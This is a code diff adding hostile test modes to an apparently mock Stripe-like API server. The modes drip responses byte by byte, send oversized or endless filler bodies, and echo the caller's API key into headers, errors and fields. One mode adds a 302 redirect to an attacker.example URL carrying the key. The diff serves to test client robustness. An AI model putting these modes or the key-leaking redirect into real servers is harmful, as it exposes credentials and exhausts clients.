@@ -12,6 +12,12 @@ For tests of the client it injects faults on purpose: 429s, 500s, dropped
 connections, answers cut short and answers slower than the client's timeout,
 each with a given probability from a seeded random generator.
 
+Hostile modes attack the client itself, on every answer: `--drip S` sends
+the headers, then the body one byte every S seconds; `--declare-length N`
+declares a body of N bytes and `--endless` sends a chunked body of unknown
+length, both of filler, up to `--send-limit` bytes; `--echo-key PLACES`
+sends the caller's API key back wherever a server could (see ECHO_PLACES).
+
 `--as-of T --advance R` lets that time run R times faster than real time, so
 that transactions settle and new objects appear while a fetch is reading.
 
@@ -44,6 +50,17 @@ LISTS = {
     "/v1/treasury/financial_accounts": "treasury.financial_account",
     "/v1/treasury/transactions": "treasury.transaction",
     "/v1/treasury/transaction_entries": "treasury.transaction_entry",
+}
+# Where `--echo-key` puts the key the request was authorised with.
+ECHO_PLACES = {
+    "request-id": "the Request-Id header of every answer",
+    "version": "the Stripe-Version header of every answer",
+    "error": "the message of every error answer (combine with --p500 or a refused request)",
+    "text-error": "error answers are text/plain, with the key across their 200th byte",
+    "description": "a description field in every object of a 2xx answer",
+    "escaped": "the same, JSON-escaped (\\u005f for each underscore)",
+    "id": "the id of every financial account listed",
+    "location": "every answer is a 302 to a URL that holds the key",
 }
 RETRIEVE = {
     "/v1/treasury/financial_accounts/": ("treasury.financial_account", "/v1/treasury/financial_accounts/{financial_account}"),
@@ -139,6 +156,24 @@ class World:
         self.account_objects.sort(key=lambda o: (o["created"], o["id"]), reverse=True)
 
 
+class Drip:
+    """Writes to `wfile` one byte at a time, `interval` seconds apart (a server that never quite stalls)."""
+
+    def __init__(self, wfile, interval):
+        self.wfile = wfile
+        self.interval = interval
+
+    def write(self, data):
+        for i in range(len(data)):
+            self.wfile.write(data[i:i + 1])
+            self.wfile.flush()
+            time.sleep(self.interval)
+        return len(data)
+
+    def flush(self):
+        self.wfile.flush()
+
+
 class Handler(http.server.BaseHTTPRequestHandler):
     protocol_version = "HTTP/1.1"
     server_version = "stripe-like-test-server"
@@ -159,7 +194,19 @@ class Handler(http.server.BaseHTTPRequestHandler):
         query = urllib.parse.parse_qsl(parsed.query, keep_blank_values=True)
         record = {"path": parsed.path, "query": query, "account": self.headers.get("Stripe-Account"),
                   "version": self.headers.get("Stripe-Version"), "fault": None, "status": None}
+        self.token = self.bearer()
         try:
+            if config.declare_length is not None or config.endless:
+                self.send_filler(record)
+                return
+            if "location" in config.echo_key:
+                record["status"] = 302
+                self.send_response(302)
+                self.send_header("Location", "https://attacker.example/collect?key=" + self.token)
+                self.send_header("Content-Length", "0")
+                self.send_header("Request-Id", self.request_id())
+                self.end_headers()
+                return
             if config.delay:
                 time.sleep(config.delay)
             fault = self.server.pick_fault()
@@ -177,7 +224,15 @@ class Handler(http.server.BaseHTTPRequestHandler):
                 self.send_error_json(500, "api_error", "Something went wrong on Stripe's end.", record, headers)
                 return
             status, body = self.answer(parsed.path, query, record)
+            if status >= 400 and "error" in body:
+                self.send_error_json(status, body["error"].pop("type"), body["error"].pop("message"), record,
+                                     extra=body["error"])
+                return
+            if 200 <= status < 300:
+                body = self.echo_in_objects(body)
             data = (json.dumps(body, indent=2, ensure_ascii=False) + "\n").encode("utf-8")
+            if 200 <= status < 300 and "escaped" in config.echo_key and self.token:
+                data = data.replace(self.token.encode(), self.token.replace("_", "\\u005f").encode())
             if fault == "truncate":
                 self.send_response(status)
                 self.send_header("Content-Type", "application/json")
@@ -194,6 +249,76 @@ class Handler(http.server.BaseHTTPRequestHandler):
         finally:
             self.server.log(record)
 
+    def bearer(self):
+        """The key the request was authorised with (what --echo-key sends back)."""
+        auth = self.headers.get("Authorization", "")
+        if auth.startswith("Bearer "):
+            return auth[7:]
+        if auth.startswith("Basic "):
+            try:
+                return base64.b64decode(auth[6:]).decode().rstrip(":")
+            except ValueError:
+                return ""
+        return ""
+
+    def request_id(self):
+        suffix = "_" + self.token if "request-id" in self.server.config.echo_key else ""
+        return "req_%d%s" % (self.server.next_id(), suffix)
+
+    def echo_in_objects(self, body):
+        """The key in a description of every object (--echo-key description/escaped) and as financial account ids (id)."""
+        places = self.server.config.echo_key
+        if not self.token or not places & {"description", "escaped", "id"}:
+            return body
+        body = copy.deepcopy(body)
+        items = body["data"] if body.get("object") == "list" else [body]
+        for item in items:
+            if places & {"description", "escaped"}:
+                item["description"] = "note for " + self.token
+            if "id" in places and item.get("object") == "treasury.financial_account":
+                item["id"] = self.token
+        return body
+
+    def send_filler(self, record):
+        """An answer of filler that is too big: declared (--declare-length) or chunked without end (--endless)."""
+        config = self.server.config
+        record["status"] = 200
+        record["sent"] = 0
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Stripe-Version", config.version)
+        self.send_header("Request-Id", self.request_id())
+        if config.endless:
+            self.send_header("Transfer-Encoding", "chunked")
+        else:
+            self.send_header("Content-Length", str(config.declare_length))
+        self.end_headers()
+        head = b'{"object": "list", "data": [], "has_more": false, "url": "/", "pad": "'
+        tail = b'"}\n'
+        total = config.send_limit if config.endless else config.declare_length
+        left = total - len(head) - len(tail)
+        chunk = b"x" * (1 << 20)
+        pieces = [head]
+        while record["sent"] < config.send_limit and pieces:
+            piece = pieces.pop()
+            if config.endless:
+                self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
+            else:
+                self.wfile.write(piece)
+            record["sent"] += len(piece)
+            if left > 0:
+                pieces.append(chunk[:min(len(chunk), left)])
+                left -= len(pieces[-1])
+            elif piece is not tail:
+                pieces.append(tail)
+        if config.endless:
+            self.wfile.write(b"0\r\n\r\n")
+            self.wfile.flush()
+        else:
+            # Less than declared: the client sees the connection end early.
+            self.wfile.flush()
+            self.drop()
+
     def drop(self):
         self.close_connection = True
         try:
@@ -205,19 +330,36 @@ class Handler(http.server.BaseHTTPRequestHandler):
         self.send_response(status)
         self.send_header("Content-Type", "application/json")
         self.send_header("Content-Length", str(len(data)))
-        self.send_header("Stripe-Version", self.server.config.version)
-        self.send_header("Request-Id", "req_%d" % self.server.next_id())
+        echoed = "version" in self.server.config.echo_key and self.token
+        self.send_header("Stripe-Version", self.token if echoed else self.server.config.version)
+        self.send_header("Request-Id", self.request_id())
         for k, v in (headers or {}).items():
             self.send_header(k, v)
         self.end_headers()
-        self.wfile.write(data)
+        (Drip(self.wfile, self.server.config.drip) if self.server.config.drip else self.wfile).write(data)
 
-    def send_error_json(self, status, kind, message, record, headers=None, code=None, param=None):
+    def send_error_json(self, status, kind, message, record, headers=None, code=None, param=None, extra=None):
+        places = self.server.config.echo_key
+        if "text-error" in places:
+            record["status"] = status
+            text = ("x" * 180 + self.token + " was used\n").encode()
+            self.send_response(status)
+            self.send_header("Content-Type", "text/plain")
+            self.send_header("Content-Length", str(len(text)))
+            self.send_header("Request-Id", self.request_id())
+            for k, v in (headers or {}).items():
+                self.send_header(k, v)
+            self.end_headers()
+            self.wfile.write(text)
+            return
+        if "error" in places and self.token:
+            message = "%s (request made with %s)" % (message, self.token)
         error = {"type": kind, "message": message}
         if code:
             error["code"] = code
         if param:
             error["param"] = param
+        error.update(extra or {})
         record["status"] = status
         self.send_json(status, (json.dumps({"error": error}, indent=2) + "\n").encode("utf-8"), headers)
 
@@ -390,9 +532,23 @@ def main():
     parser.add_argument("--delay", type=float, default=0, help="seconds every answer takes")
     parser.add_argument("--no-retry-500", action="store_true", help="injected 500s say Stripe-Should-Retry: false")
     parser.add_argument("--stuck-cursor", action="store_true", help="ignore starting_after (a broken cursor)")
+    parser.add_argument("--drip", type=float, default=0,
+                        help="send the body of every answer one byte every DRIP seconds (the headers at once)")
+    parser.add_argument("--declare-length", type=int,
+                        help="every answer declares a body of this many bytes and sends filler")
+    parser.add_argument("--endless", action="store_true",
+                        help="every answer is a chunked body of filler with no declared length")
+    parser.add_argument("--send-limit", type=int, default=256 << 20,
+                        help="bytes of filler sent at most (--declare-length, --endless)")
+    parser.add_argument("--echo-key", default="",
+                        help="comma-separated places to send the caller's key back: " + ", ".join(ECHO_PLACES))
     parser.add_argument("--endpoints", default=os.path.join(here, "stripe-endpoints.json"))
     parser.add_argument("--log", help="append one JSON line per request to this file")
     config = parser.parse_args()
+    config.echo_key = {p for p in config.echo_key.split(",") if p}
+    unknown = config.echo_key - set(ECHO_PLACES)
+    if unknown:
+        parser.error("unknown --echo-key places: " + ", ".join(sorted(unknown)))
     config.started = time.time()
     server = Server(config)
     print(server.server_address[1], flush=True)
